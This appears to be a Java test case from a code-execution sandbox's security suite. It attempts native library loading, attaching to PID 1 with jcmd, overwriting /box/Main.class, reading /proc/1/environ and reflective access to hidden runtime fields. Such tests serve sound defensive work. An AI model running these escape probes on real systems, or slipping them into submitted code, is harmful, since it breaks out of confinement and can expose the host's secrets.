// @attack F19 load native code, attach to itself, open what the platform hides
// @allowed accepted
// @why whatever works inside the process has no more rights than the process
// @limits time_ms=3000 memory_mb=256
import java.lang.reflect.Field;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardCopyOption;
import java.util.Scanner;
import java.util.concurrent.Callable;

public class Main {
    public static void main(String[] args) {
        Callable<?>[] attempts = {
            () -> {
                Path copy = Path.of("/tmp/libevil.so");
                Files.copy(Path.of("/lib/x86_64-linux-gnu/libm.so.6"), copy, StandardCopyOption.REPLACE_EXISTING);
                System.load(copy.toString());
                return null;
            },
            () -> new ProcessBuilder("jcmd", "1", "VM.version").start().waitFor() == 0 ? 1 : 1 / 0,
            () -> Files.writeString(Path.of("/box/Main.class"), "x"),
            () -> Files.readString(Path.of("/proc/1/environ")),
            () -> {
                Field hidden = Runtime.class.getDeclaredField("currentRuntime");
                hidden.setAccessible(true);
                return hidden.get(null);
            },
        };
        int gained = 0;
        for (Callable<?> attempt : attempts) {
            try {
                attempt.call();
                gained++;
            } catch (Throwable refused) {
                continue;
            }
        }
        Scanner in = new Scanner(System.in);
        System.out.println(gained > 0 ? gained + " gained" : in.nextLong() + in.nextLong() + "");
    }
}
